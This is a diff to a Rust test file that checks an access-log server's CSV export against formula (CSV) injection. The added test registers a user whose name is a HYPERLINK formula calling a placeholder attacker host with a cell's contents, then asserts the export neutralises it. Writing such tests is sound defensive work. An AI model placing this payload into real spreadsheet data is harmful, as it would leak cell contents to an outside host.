@@ -11,6 +11,9 @@ use mamori_server::access_log::AccessLog;
 use mamori_server::access_log::chain::{Entry, GENESIS};
 use mamori_tests::TestServer;
 use mamori_tests::passkeys::{joined, my_facility, registered_admin, run, status};
+
+/// A name that spreadsheets would run as a formula.
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
 use mamori_tests::server::server_binary;
 use serde_json::Value;
 use sqlx::SqlitePool;
@@ -188,6 +191,10 @@ async fn each_action_is_logged_with_its_person_document_and_times() {
     .await;
     assert_eq!(status(&reviewed), 200);
 
+    // Someone joins under a name that is a spreadsheet formula (CSV injection).
+    let (mallory, _) = joined(&server, &admin, "viewer", FORMULA_NAME).await;
+    mallory.close().await;
+
     // CSV in both encodings, read back with a CSV reader.
     let utf8 = download(
         &admin,
@@ -228,6 +235,18 @@ async fn each_action_is_logged_with_its_person_document_and_times() {
         assert!(
             all.iter()
                 .any(|r| r[3] == "佐藤 花子" && r[4] == "役割の変更")
+        );
+        // The formula is written as text: no cell starts one, and the name is there behind an apostrophe.
+        assert!(
+            all.iter()
+                .any(|r| r[3] == format!("'{FORMULA_NAME}") && r[4] == "参加"),
+            "{all:?}"
+        );
+        assert!(
+            all.iter()
+                .flatten()
+                .all(|c| !c.starts_with(['=', '+', '-', '@'])),
+            "{all:?}"
         );
         let last = all.last().unwrap();
         assert_eq!(last[4], "チェーンの先頭ハッシュ (head)");
